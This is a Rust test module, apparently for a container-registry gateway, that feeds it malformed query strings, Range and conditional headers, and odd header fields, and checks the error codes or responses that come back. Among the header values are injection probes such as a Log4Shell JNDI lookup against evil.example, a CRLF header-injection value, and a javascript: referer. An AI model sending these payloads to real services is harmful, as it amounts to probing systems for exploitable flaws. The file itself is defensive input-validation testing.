//! Bad queries and bad header fields.

use super::case::{Case, Expect};

/// Content that is in the store before the requests are sent.
pub struct Stored {
    /// Two blobs, one for each algorithm: path, digest and bytes.
    pub blobs: Vec<(String, String, Vec<u8>)>,
    /// A manifest: its paths by tag and by digest, and its bytes.
    pub manifest: ([String; 2], Vec<u8>),
}

const LIST: &str = "/v2/library/app/tags/list";

/// Repeated keys in every spelling, and invalid escapes: 400 `NAME_INVALID`.
const BAD_QUERIES: &[&str] = &[
    "n=1&n=1",
    "n=1&n=2",
    "n=1&last=a&n=2",
    "n&n",
    "n=&n=",
    "n=1&%6e=1",
    "%6e=1&n=1",
    "%6E=1&%6e=1",
    "last=a&la%73t=b",
    "last=a&l%61st=b",
    "ns=docker.io&ns=docker.io",
    "ns=docker.io&ns=evil.example",
    "ns=docker.io&%6Es=ghcr.io",
    "ns=docker.io&n%73=ghcr.io",
    "%6e%73=docker.io&ns=ghcr.io",
    "a+b=1&a%20b=2",
    "=1&=2",
    "=&=",
    "artifactType=a&artifactType=b",
    "%C3%A9=1&%c3%a9=2",
    "x=1&y=2&z=3&x=4",
    "n=%",
    "n=1%",
    "n=%1",
    "n=%zz",
    "n=%u0031",
    "n=%%31",
    "%=1",
    "%4=1",
    "last=%ff",
    "last=%c0%80",
    "last=%ed%a0%80",
    "%ff=1",
    "last=%00",
    "last=a%00b",
    "last=%0a",
    "last=%0d%0aX-Injected:%201",
    "last=%09",
    "last=%1b[31m",
    "last=%7f",
    "last=%c2%85",
    "%00=1",
];

/// Invalid values of `n`: 400 `PAGINATION_NUMBER_INVALID`.
const BAD_NUMBERS: &[&str] = &[
    "-1",
    "-0",
    "x",
    "1x",
    "x1",
    "",
    "%20",
    "1%20",
    "%201",
    "1.0",
    "1e3",
    "0x10",
    "1,000",
    "1_000",
    "NaN",
    "inf",
    "true",
    "null",
    "4294967296",
    "18446744073709551616",
    "99999999999999999999999999",
    "%D9%A1",
    "%EF%BC%91",
    "%2D1",
    "++1",
    "1;n=2",
    "[1]",
];

/// Range headers that RFC 9110 §14.2 lets a server ignore.
const IGNORED_RANGES: &[&[u8]] = &[
    b"",
    b"bytes",
    b"bytes=",
    b"bytes=-",
    b"bytes= - ",
    b"bytes=a-b",
    b"bytes=0-b",
    b"bytes=a-9",
    b"bytes=9--1",
    b"bytes=--1",
    b"bytes=-1-",
    b"bytes=1-2-3",
    b"bytes=0 - 1",
    b"bytes=+0-1",
    b"bytes=0-+1",
    b"bytes=0x0-0xf",
    b"bytes=1.5-2",
    b"bytes=0-1;q=1",
    b"bytes:0-1",
    b"bytes 0-1",
    b"bytes 0-1/100",
    b"bytes==0-1",
    b"=0-1",
    b"0-1",
    b"items=0-1",
    b"byte=0-1",
    b"bytes*=0-1",
    b"none",
    b"\"bytes=0-1\"",
    b"bytes=0-1,a-b",
    b"bytes=0-1,-",
    b"bytes=0-1 3-4",
    b"bytes=0-1,bytes=3-4",
    b"bytes=0-1;3-4",
    b"bytes=,",
    b"bytes=, ,\t,",
    b"bytes=\xff-1",
    b"bytes=0-1\xff",
    b"\xc3\xa9=0-1",
    b"bytes=\xd9\xa1-",
];

/// Ranges outside of any content.
const UNSATISFIABLE: &[&str] = &[
    "bytes=5-4",
    "bytes={size}-",
    "bytes={size}-{size}",
    "bytes=18446744073709551615-",
    "bytes=18446744073709551616-",
    "bytes=99999999999999999999999999999999-",
    "bytes=99999999999999999999999999999998-99999999999999999999999999999999",
    "bytes=-0",
    "bytes=-00",
    "Bytes={size}-",
    "bytes={size}-,-0,{size}-{size}",
];

/// If-Range values that match nothing, so that the Range beside them is ignored.
const UNMATCHED: &[&[u8]] = &[
    b"",
    b"*",
    b"\"",
    b"\"\"",
    b"W/",
    b"W/\"\"",
    b"\"sha256:0\"",
    b"sha256:0",
    b"{digest}",
    b"\"{digest}",
    b"{digest}\"",
    b"W/\"{digest}\"",
    b"\"x\", \"{digest}\"",
    b"Thu, 01 Jan 1970 00:00:00 GMT",
    b"Thu, 99 Foo 2099 99:99:99 GMT",
    b"0",
    b"\xff",
    b"\"\xff\"",
];

/// If-None-Match values that match nothing.
const NONE_MATCH: &[&[u8]] = &[
    b"",
    b",",
    b",,,",
    b"\"",
    b"\"\"",
    b"W/",
    b"W/W/\"{digest}\"",
    b"w/\"{digest}\"",
    b"\"{digest}",
    b"'{digest}'",
    b"\"{digest}\"x",
    b"\"sha256:0\"",
    b"**",
    b"\"*\"",
    b"\xff",
];

/// Accept headers that exclude nothing that the gateway could serve.
const ODD_ACCEPTS: &[&[u8]] = &[
    b"",
    b",",
    b";",
    b";q=1",
    b"*",
    b"*/",
    b"/*",
    b"*/*;q=0",
    b"*/*;q=banana",
    b"text/html",
    b"application",
    b"application/json;charset=utf-8;q=2",
    b"application/vnd.oci.image.manifest.v1+json;q=0",
    b"APPLICATION/VND.OCI.IMAGE.MANIFEST.V1+JSON",
    b"application/vnd.oci.image.manifest.v1+json,,,,*/*",
    b"\"application/json\"",
    b"\xff/\xff",
];

/// Fields without a meaning for the gateway, however strange.
const STRANGE: &[(&str, &[u8])] = &[
    ("x-empty", b""),
    ("x-high", b"\x80\xfe\xff"),
    ("x-utf-8", b"\xc3\xa9\xf0\x9f\x90\xb3"),
    ("x-format", b"%s%n%x ${jndi:ldap://evil.example/a} {{7*7}}"),
    ("x-forwarded-for", b"127.0.0.1, ::1, unknown, _hidden"),
    ("x-forwarded-proto", b"gopher"),
    ("x-forwarded-host", b"evil.example"),
    ("forwarded", b"for=\"_gazonk\";host=evil.example;;;"),
    ("x-original-url", b"/admin"),
    ("x-http-method-override", b"DELETE"),
    ("authorization", b""),
    ("authorization", b"Basic"),
    ("authorization", b"Basic !!!"),
    ("authorization", b"Bearer \xff"),
    ("authorization", b"Negotiate YII="),
    ("cookie", b"a=b; a=b; =; ;;"),
    ("content-type", b"multipart/form-data; boundary="),
    ("content-encoding", b"gzip"),
    ("accept-encoding", b"gzip, br, *;q=0"),
    ("if-match", b"\"nothing\""),
    ("if-modified-since", b"yesterday"),
    ("if-unmodified-since", b"Thu, 01 Jan 1970 00:00:00 GMT"),
    ("cache-control", b"no-store, only-if-cached, max-age=-1"),
    ("pragma", b"no-cache"),
    ("user-agent", b"docker/0.0.0 go/\xff kernel/()"),
    ("referer", b"javascript:alert(1)"),
    ("origin", b"null"),
    ("via", b"1.1 roadstead, 1.1 roadstead"),
    ("max-forwards", b"-1"),
    ("range-unit", b"bytes"),
    ("cache-status", b"roadstead; hit"),
    ("docker-distribution-api-version", b"registry/1.0"),
    ("oci-namespace", b"evil.example"),
];

pub fn cases(stored: &Stored) -> Vec<Case> {
    let mut cases = queries();
    for (path, digest, bytes) in &stored.blobs {
        let whole = |method| Case::new(method, path, Expect::Whole(bytes.clone()));
        let tagged = |value: &[u8]| {
            let text: Vec<u8> = value.to_vec();
            replaced(&text, b"{digest}", digest.as_bytes())
        };
        for range in IGNORED_RANGES {
            cases.push(whole("GET").header("range", range));
        }
        let crowd = |separator: &str| format!("bytes={}", vec!["0-0"; 65].join(separator));
        cases.push(whole("GET").header("range", crowd(",")));
        cases.push(whole("GET").header("range", crowd(" , ,")));
        for range in UNSATISFIABLE {
            let range = range.replace("{size}", &bytes.len().to_string());
            let unsatisfiable = Expect::Unsatisfiable(bytes.len());
            cases.push(Case::new("GET", path, unsatisfiable).header("range", range));
        }
        for value in UNMATCHED {
            let case = whole("GET").header("range", "bytes=0-1");
            cases.push(case.header("if-range", tagged(value)));
        }
        for value in NONE_MATCH {
            cases.push(whole("GET").header("if-none-match", tagged(value)));
        }
        for range in [
            "bytes=-",
            "bytes=5-4",
            "bytes=0-1",
            "bytes=0-1,9-",
            "bytes=99999999-",
        ] {
            cases.push(whole("HEAD").header("range", range));
        }
        let known = Case::new("GET", path, Expect::NotModified);
        let two_lines = known.clone().header("if-none-match", "\"sha256:0\"");
        cases.push(two_lines.header("if-none-match", digest));
        let both = known.header("range", "bytes=99999999-");
        cases.push(both.header("if-none-match", digest));
    }
    let (paths, bytes) = &stored.manifest;
    for path in paths {
        let whole = || Case::new("GET", path, Expect::Whole(bytes.clone()));
        for accept in ODD_ACCEPTS {
            cases.push(whole().header("accept", accept));
        }
        let kilobytes = "application/x,".repeat(2_000);
        cases.push(whole().header("accept", kilobytes));
        cases.push(whole().header("range", "bytes=99999999-"));
    }
    for (name, value) in STRANGE {
        let ping = Case::new("GET", "/v2/", Expect::Whole(b"{}".to_vec()));
        cases.push(ping.header(name, value));
    }
    cases.extend(large());
    cases
}

fn queries() -> Vec<Case> {
    let mut cases = Vec::new();
    for query in BAD_QUERIES {
        let target = format!("{LIST}?{query}");
        cases.push(Case::get(target, 400, "NAME_INVALID"));
    }
    for query in ["n=1&n=2", "x=%", "ns=docker.io&ns=docker.io", "last=%ff"] {
        let target = format!("/v2/?{query}");
        cases.push(Case::get(target, 400, "NAME_INVALID"));
    }
    for number in BAD_NUMBERS {
        let target = format!("{LIST}?n={number}");
        cases.push(Case::get(target, 400, "PAGINATION_NUMBER_INVALID"));
    }
    cases
}

/// Large, but within `limits.header_bytes`.
fn large() -> Vec<Case> {
    let ping = || Case::new("GET", "/v2/", Expect::Whole(b"{}".to_vec()));
    let many = (0..200).fold(ping(), |case, number| {
        case.header("x-many", number.to_string())
    });
    let query = format!("/v2/?{}", "x".repeat(50_000));
    let pairs: Vec<String> = (0..5_000).map(|number| format!("k{number}=v")).collect();
    vec![
        ping().header("x-long", "v".repeat(60_000)),
        ping().header("authorization", format!("Basic {}", "QQ==".repeat(12_000))),
        ping().header("cookie", "c=1; ".repeat(12_000)),
        many,
        Case::new("GET", query, Expect::Whole(b"{}".to_vec())),
        Case::new(
            "GET",
            format!("/v2/?{}", pairs.join("&")),
            Expect::Error(400, "NAME_INVALID"),
        ),
    ]
}

/// `bytes` with every `mark` replaced.
fn replaced(bytes: &[u8], mark: &[u8], by: &[u8]) -> Vec<u8> {
    let mut rest = bytes;
    let mut out = Vec::new();
    while let Some(at) = rest.windows(mark.len()).position(|window| window == mark) {
        out.extend([&rest[..at], by].concat());
        rest = &rest[at + mark.len()..];
    }
    out.extend(rest);
    out
}
